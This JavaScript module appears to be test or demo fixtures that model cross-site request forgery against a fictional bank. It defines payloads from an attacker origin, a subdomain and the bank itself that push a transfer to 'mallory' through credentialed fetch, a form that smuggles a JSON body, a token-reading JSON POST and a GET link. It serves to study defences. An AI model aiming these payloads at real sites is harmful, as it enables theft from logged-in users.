// What pages do while Ann, who is logged in at the bank, looks at them.

const evil = 'https://evil.example';
const transfer = { to: 'mallory', amount: 100 };
const asText = JSON.stringify(transfer);

const post = ({ fetch, bank }) =>
  fetch(`${bank}/transfer`, { method: 'POST', credentials: 'include', body: asText });

// With the token of Ann's session, if this page can read it.
async function postJson({ fetch, bank }) {
  const account = await fetch(`${bank}/account`, { credentials: 'include' })
    .then((response) => response.json())
    .catch(() => ({}));
  const headers = { 'content-type': 'application/json' };
  if (account.token) headers['csrf-token'] = account.token;
  const init = { method: 'POST', credentials: 'include', headers, body: asText };
  return fetch(`${bank}/transfer`, init);
}

export const attacks = {
  text: { title: 'text by fetch()', from: evil, script: post },

  form: {
    title: 'text by a form',
    from: evil,
    // A form sends name=value: the = and the rest become part of the JSON.
    script: ({ submit, bank }) =>
      submit(`${bank}/transfer`, [`${asText.slice(0, -1)},"x":"`, '"}']),
  },

  json: { title: 'JSON by fetch()', from: evil, script: postJson },

  link: {
    title: 'a link',
    from: evil,
    script: ({ follow, bank }) => follow(`${bank}/transfer?to=mallory&amount=100`),
  },

  sibling: {
    title: 'text, subdomain',
    from: 'https://blog.bank.example',
    script: post,
  },

  own: { title: 'its own page', from: 'https://bank.example', script: postJson },
};
